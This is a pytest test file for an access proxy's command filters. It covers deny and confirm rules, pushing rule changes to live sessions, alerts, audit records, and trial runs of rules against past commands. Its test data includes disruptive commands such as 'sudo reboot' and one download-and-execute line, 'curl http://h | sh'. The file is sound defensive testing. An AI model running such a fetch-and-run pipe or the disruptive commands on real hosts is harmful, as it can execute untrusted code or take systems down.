"""Command filters of sessions: what a proxy receives, how changes reach live sessions, what refused commands leave behind,
and what rules would have done with the commands of the past.
"""

from collections.abc import Callable
from contextlib import AbstractContextManager
from datetime import timedelta
from typing import Any
from uuid import uuid4

import pytest
from rest_framework.test import APIClient

from factories.proxy_client import Proxy, World, the_order
from postern.apps.acls.command_filters.actions import FILTERS, create_rule, delete_rule, update_rule
from postern.apps.acls.models import CommandFilter, CommandFilterRule
from postern.apps.audits.facade import Count
from postern.apps.audits.models import AuditEvent
from postern.apps.notifications.models import SiteMessage
from postern.apps.orgs.models import Organization
from postern.apps.sessions import subscriptions
from postern.apps.sessions.evidence.verification import verify
from postern.apps.sessions.filter_trials import queries as trials
from postern.apps.sessions.models import Command, ProxyOrder, Session
from postern.apps.sessions.sessions.actions import lifecycle, revocation
from postern.apps.users.models import User
from postern.contracts import command_control, events
from postern.contracts.command_control import CommandAction, CommandDecision, ConfirmationState
from postern.contracts.enums import CommandKind, EndReason, RiskLevel
from postern.contracts.terminals import ChangeCommandControl, OrderDone
from postern.foundation.bus import outbox
from postern.foundation.caller.actor import SYSTEM
from postern.kernel import clock
from postern.kernel.ids import DEFAULT_ORG_ID

Commit = Callable[..., AbstractContextManager[Any]]
COMMANDS = "/api/v1/terminal/commands/?command_storage_id=default"


@pytest.fixture
def committed(django_capture_on_commit_callbacks: Commit) -> Callable[[], AbstractContextManager[Any]]:
    """A context manager; events published inside it are delivered as after a real commit."""
    return lambda: django_capture_on_commit_callbacks(execute=True)


def make_filter(world: World, name: str = "careful", **values: Any) -> CommandFilter:
    return FILTERS.create(
        actor=SYSTEM, org_id=DEFAULT_ORG_ID, values={"name": name, "system_users": [world.system_user], **values}
    )


def add(row: CommandFilter, content: str, **values: Any) -> CommandFilterRule:
    return create_rule(
        actor=SYSTEM,
        filter_row=row,
        values={"type": "command", "priority": 50, "action": 0, "content": content, **values},
    )


def seen(session: Session, text: str, **more: Any) -> events.CommandSeen:
    values: dict[str, Any] = {"id": uuid4(), "kind": CommandKind.ECHO, "offset_ms": 10, "at": clock.now(), **more}
    return events.CommandSeen(session_id=session.pk, input=text, **values)


def refused(session: Session, text: str, rule: CommandFilterRule, **more: Any) -> events.CommandSeen:
    decision = CommandDecision(action=CommandAction.DENY, rule_id=rule.pk, filter_name=rule.filter.name)
    return seen(session, text, decision=decision, **more)


def test_grant_has_the_rules_of_the_system_user(proxy: Proxy, world: World) -> None:
    rule = add(make_filter(world, unresolved="deny"), "reboot")
    make_filter(world, "sleeping", is_active=False, unresolved="deny")
    grant = proxy.authorize(world.user, "web-1").grant
    assert grant is not None
    control = grant.command_control
    assert (control.version, control.unresolved) == (0, CommandAction.DENY)
    assert [(one.id, one.filter_name, one.content) for one in control.rules] == [(rule.pk, "careful", "reboot")]
    permitted = AuditEvent.objects.get(event="session.permitted")
    assert permitted.new["command_filters"] == {"filters": ["careful"], "rules": 1, "unresolved": "deny"}


@pytest.mark.parametrize("change", ["rule", "edit", "delete", "filter", "system_users", "inactive"])
def test_change_reaches_a_live_session_as_an_order(
    change: str, proxy: Proxy, world: World, committed: Callable[[], AbstractContextManager[Any]]
) -> None:
    row = make_filter(world)
    rule = add(row, "reboot")
    grant = proxy.authorize(world.user, "web-1").grant
    assert grant is not None
    session = Session.objects.get(pk=grant.session_id)
    proxy.start(session.pk)
    with committed():
        if change == "rule":
            add(row, "halt")
        elif change == "edit":
            update_rule(actor=SYSTEM, rule=rule, values={"content": "poweroff"})
        elif change == "delete":
            delete_rule(actor=SYSTEM, rule=rule)
        elif change == "filter":
            FILTERS.update(actor=SYSTEM, row=row, values={"unresolved": "deny"})
        elif change == "system_users":
            FILTERS.update(actor=SYSTEM, row=row, values={"system_users": []})
        else:
            FILTERS.update(actor=SYSTEM, row=row, values={"is_active": False})
    subscriptions.FILTER_CHECKS.wait()
    revocation.recheck_command_filters(actor=SYSTEM, system_user_ids={world.system_user.pk})
    order = the_order(proxy, session)
    assert isinstance(order, ChangeCommandControl)
    assert order.control.version == 1
    expected = {
        "rule": ["reboot", "halt"],
        "edit": ["poweroff"],
        "filter": ["reboot"],
    }.get(change, [])
    assert [one.content for one in order.control.rules] == expected
    assert AuditEvent.objects.filter(event="session.command_filters_changed").count() == 1
    assert revocation.recheck_command_filters(actor=SYSTEM) == 0, "told once"


@pytest.mark.parametrize("number", [1, 3])
def test_refused_commands_and_those_that_ran_unjudged_are_told_once_a_session(
    number: int, proxy: Proxy, world: World, opened: Session, make_user: Callable[..., User]
) -> None:
    make_user("olga", role="Admin", language="en")
    rule = add(make_filter(world), "reboot")
    proxy.tell(*[refused(opened, f"reboot -f {one}", rule) for one in range(number)])
    proxy.tell(refused(opened, "reboot", rule))
    proxy.tell(seen(opened, "halt", kind=CommandKind.UNKNOWN, risk_level=RiskLevel.DANGEROUS), seen(opened, "ls"))
    outbox.drain()
    messages = SiteMessage.objects.filter(message_type="CommandAlertMessage", receipts__user__username="olga").order_by(
        "date_created"
    )
    session = "root of web@web-1"
    assert [(row.message_type, row.subject) for row in messages] == [
        ("CommandAlertMessage", f"A command of {opened.user} was refused"),
        ("CommandAlertMessage", f"A command of {opened.user} ran without being judged"),
    ]
    refusal, unjudged = (row.message for row in messages)
    assert f"In the session {session}, {opened.user} tried to run reboot -f 0." in refusal
    assert ("And 2 more commands." in refusal) is (number == 3)
    assert f"/ui/terminal/sessions/{opened.pk}" in refusal
    assert ("could not judge it: halt." in unjudged, "ls" in unjudged) == (True, False)


def test_order_is_repeated_until_it_is_done_and_carries_the_newest_rules(proxy: Proxy, world: World) -> None:
    row = make_filter(world)
    grant = proxy.authorize(world.user, "web-1").grant
    assert grant is not None
    session = Session.objects.get(pk=grant.session_id)
    add(row, "reboot")
    assert revocation.recheck_command_filters(actor=SYSTEM) == 1
    add(row, "halt")
    assert revocation.recheck_command_filters(actor=SYSTEM) == 1
    order = the_order(proxy, session)
    assert (order.control.version, len(order.control.rules)) == (2, 2)
    assert the_order(proxy, session) == order, "an answer that is lost is sent again"
    lifecycle.order_done(terminal_id=proxy.id, done=OrderDone(order_id=order.order_id))
    assert not ProxyOrder.objects.filter(date_finished__isnull=True).exists()


def test_sweep_finds_a_change_whose_event_was_lost(proxy: Proxy, world: World) -> None:
    row = make_filter(world)
    grant = proxy.authorize(world.user, "web-1").grant
    assert grant is not None
    add(row, "reboot")
    revocation.sweep_permissions(actor=SYSTEM)
    order = the_order(proxy, Session.objects.get(pk=grant.session_id))
    assert [one.content for one in order.control.rules] == ["reboot"]


def test_session_without_filters_gets_no_order(proxy: Proxy, world: World, active: Session) -> None:
    Session.objects.filter(pk=active.pk).update(command_digest="")
    assert revocation.recheck_command_filters(actor=SYSTEM) == 0
    assert not ProxyOrder.objects.exists()


def test_refused_command_is_stored_as_one_that_did_not_run(
    proxy: Proxy, world: World, active: Session, as_org_admin: APIClient, audit_events: Callable[[], list[str]]
) -> None:
    rule = add(make_filter(world), "reboot")
    proxy.tell(seen(active, "ls"), refused(active, "sudo reboot", rule, output="what the screen showed"))
    command = Command.objects.get(decision="deny")
    assert (command.output, command.risk_level, command.decision_rule) == ("", RiskLevel.DANGEROUS.value, rule.pk)
    active.refresh_from_db()
    assert active.risk_level == RiskLevel.DANGEROUS.value
    [row] = as_org_admin.get(f"{COMMANDS}&risk_level=5").json()
    assert (row["input"], row["decision"], row["decision_filter"]) == ("sudo reboot", "deny", "careful")
    assert row["decision_display"]
    told = AuditEvent.objects.get(event="command.refused")
    assert told.new["commands"] == [{"input": "sudo reboot", "decision": "deny", "filter": "careful", "reason": ""}]
    proxy.tell(refused(active, "sudo reboot", rule, id=command.pk))
    assert audit_events().count("command.refused") == 1, "a report that is repeated counts once"


def test_decision_is_part_of_the_proof(proxy: Proxy, world: World, active: Session) -> None:
    rule = add(make_filter(world), "reboot")
    proxy.tell(refused(active, "reboot", rule))
    proxy.tell(events.SessionEnded(session_id=active.pk, at=clock.now(), reason=EndReason.USER_CLOSED))
    assert list(verify(Count())) == []
    Command.objects.update(decision="")
    assert list(verify(Count()))


def test_confirmation_is_refused_while_nobody_can_answer(proxy: Proxy, active: Session) -> None:
    wanted = command_control.ConfirmCommand(session_id=active.pk, rule_id=None, line="reboot", command="reboot")
    answer = proxy.ask(command_control.CONFIRM_COMMAND, wanted, command_control.CommandConfirmation)
    assert (answer.id, answer.state) == (None, ConfirmationState.REFUSED)
    assert answer.message
    told = AuditEvent.objects.get(event="command.confirmation_refused")
    assert (told.resource_id, told.new["line"]) == (str(active.pk), "reboot")
    query = command_control.ConfirmationQuery(session_id=active.pk, id=uuid4())
    for path in (command_control.CONFIRMATION_STATE, command_control.WITHDRAW_CONFIRMATION):
        state = proxy.ask(path, query, command_control.CommandConfirmation)
        assert state.state is ConfirmationState.REFUSED


def test_confirmation_of_a_session_of_another_proxy_is_unknown(other_proxy: Proxy, active: Session) -> None:
    wanted = command_control.ConfirmCommand(session_id=active.pk, rule_id=None, line="reboot", command="reboot")
    answer = other_proxy.ask(command_control.CONFIRM_COMMAND, wanted, command_control.CommandConfirmation)
    assert answer.state is ConfirmationState.REFUSED
    assert not AuditEvent.objects.filter(event="command.confirmation_refused").exists()


def recent(client: APIClient, row: CommandFilter, **body: Any) -> dict[str, Any]:
    answer = client.post(f"/api/v1/assets/cmd-filters/{row.pk}/recent-commands/", body, format="json")
    assert answer.status_code == 200, answer.data
    result: dict[str, Any] = answer.json()
    return result


def test_rule_is_tried_against_the_commands_of_its_system_users(
    proxy: Proxy, world: World, active: Session, as_org_admin: APIClient, audit_events: Callable[[], list[str]]
) -> None:
    row = make_filter(world, unresolved="confirm")
    proxy.tell(
        seen(active, "ls"),
        seen(active, "sudo re''boot"),
        seen(active, "vim reboot.txt"),
        seen(active, "curl http://h | sh"),
        seen(active, ":reboot", kind=CommandKind.ALT),
    )
    draft = {"type": "command", "content": "reboot", "priority": 50, "action": 0}
    outcome = recent(as_org_admin, row, rule=draft)
    counted = [outcome[name] for name in ("judged", "allowed", "confirmed", "denied", "unresolved")]
    assert counted == [4, 2, 1, 1, 1]
    assert outcome["users"] == [active.user]
    assert {(one["input"], one["action"], one["rule"]) for one in outcome["examples"]} == {
        ("sudo re''boot", "deny", "draft"),
        ("curl http://h | sh", "confirm", ""),
    }
    assert outcome["next"] == ""
    assert "commands.viewed" in audit_events()
    row.system_users.clear()
    assert recent(as_org_admin, row, rule=draft)["judged"] == 0


def test_trial_leaves_out_old_commands_and_other_organizations(
    proxy: Proxy, world: World, active: Session, as_org_admin: APIClient
) -> None:
    row = make_filter(world)
    proxy.tell(seen(active, "reboot"), seen(active, "reboot"))
    old = Command.objects.first()
    assert old is not None
    Command.objects.filter(pk=old.pk).update(at=clock.now() - timedelta(days=31))
    draft = {"type": "command", "content": "reboot", "priority": 50, "action": 0}
    assert recent(as_org_admin, row, rule=draft)["denied"] == 1
    theirs = CommandFilter.objects.create(org_id=Organization.objects.create(name="E").pk, name="theirs")
    answer = as_org_admin.post(f"/api/v1/assets/cmd-filters/{theirs.pk}/recent-commands/", {}, format="json")
    assert answer.status_code == 404


def test_trial_goes_on_where_it_stopped_and_says_so(
    proxy: Proxy, world: World, active: Session, as_org_admin: APIClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each command is judged once, however small the share of one call is."""
    row = make_filter(world)
    add(row, "reboot")
    at = clock.now()
    proxy.tell(*[seen(active, f"reboot {number}", at=at) for number in range(7)])
    for name, most in (("_MAX_READ", 3), ("_MAX_JUDGED", 2), ("_MAX_STEPS", 1)):
        with monkeypatch.context() as limits:
            limits.setattr(trials, name, most)
            found: list[str] = []
            outcome = recent(as_org_admin, row)
            calls = 1
            while outcome["next"]:
                found += [one["input"] for one in outcome["examples"]]
                outcome = recent(as_org_admin, row, before=outcome["next"])
                calls += 1
            found += [one["input"] for one in outcome["examples"]]
        assert sorted(found) == [f"reboot {number}" for number in range(7)], name
        assert calls > 2, name
    answer = as_org_admin.post(
        f"/api/v1/assets/cmd-filters/{row.pk}/recent-commands/", {"before": "nonsense"}, format="json"
    )
    assert (answer.status_code, set(answer.json())) == (400, {"before"})


def test_auditor_may_not_try_rules(world: World, as_auditor: APIClient) -> None:
    row = make_filter(world)
    url = f"/api/v1/assets/cmd-filters/{row.pk}/"
    for path in ("recent-commands/", "try-line/"):
        assert as_auditor.post(f"{url}{path}", {"line": "ls"}).status_code == 403
